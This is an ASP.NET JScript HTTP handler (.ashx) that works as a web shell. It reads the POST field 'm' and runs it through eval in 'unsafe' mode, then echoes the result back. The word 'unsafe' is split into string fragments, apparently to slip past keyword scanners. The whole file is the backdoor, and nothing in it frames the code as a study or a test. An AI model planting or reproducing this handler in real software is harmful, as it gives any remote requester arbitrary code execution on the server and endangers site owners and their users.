<%@ WebHandler Language="JScript" Class="H" %>
import System.Web;
class H implements IHttpHandler {
    function get IsReusable() : boolean { return false; }
    function ProcessRequest(c : HttpContext) {
        var p = "ns";
        var t = "u" ;
        var x = c.Request.Form["m"];
        c.Response.Write(eval(x, t + p + "afe"));
    }
}
